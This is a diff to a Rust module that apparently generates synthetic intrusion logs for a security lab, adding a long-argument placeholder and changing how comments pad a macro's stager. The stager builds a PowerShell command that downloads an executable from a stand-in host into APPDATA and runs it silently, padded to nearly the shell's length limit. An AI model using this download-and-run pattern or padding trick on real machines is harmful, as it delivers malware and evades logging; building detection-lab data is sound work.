@@ -2,7 +2,8 @@
 //!
 //! A line costs eight bytes in the log, whatever its length. The marks: §u the account's name, §s its SID, §h the device's short
 //! name (§H in capitals), §d a document's name, §n a number, §b a byte, §x eight hex digits, §g a GUID (§G in capitals), §e a
-//! PowerShell script in base64, §1 and §3 the intruder's, §2 a line break, §4 his password. Marks of one line with the same letter have the same value, and lines of one activity share a salt.
+//! PowerShell script in base64, §1 and §3 the intruder's, §2 a line break, §4 his password, §5 twenty-eight thousand letters.
+//! Marks of one line with the same letter have the same value, and lines of one activity share a salt.
 
 use super::{Device, Person};
 use crate::lab::data::chance::{at, guid, mix};
@@ -99,6 +100,7 @@ impl Texts {
             '1' => out.write_str(&self.stages[0]),
             '2' => out.write_str("\r\n"),
             '3' => out.write_str(&self.stages[1]),
+            '5' => (0..2800).try_for_each(|part| write!(out, " -f {part:06}")),
             '4' => out.write_str("Q8\"u;ay\u{2028}#\u{85}1"),
             _ => Ok(()),
         }
@@ -144,7 +146,8 @@ const SCRIPTS: [&str; 4] = [
 
 /// What the macro runs: padded with comments so that the command line is nearly as long as the shell takes.
 fn stager() -> String {
-    let padding: String = (0..44).map(|line| format!("# {:016x}{:016x}{:016x}\n", mix(line), mix(line ^ 7), mix(line ^ 9))).collect();
+    let padding: Vec<String> = (1..45).map(|line| format!("# {:016x}{:016x}{:016x}\n", mix(line), mix(line ^ 7), mix(line ^ 9))).collect();
+    let padding = padding.concat();
     format!(
         "{padding}$u='https://cdn.quaymetrics.example/q/qsync.dat';$p=\"$env:APPDATA\\QuaySync\\qsync.exe\";iwr $u -OutFile $p;& $p --quiet --id 48213"
     )
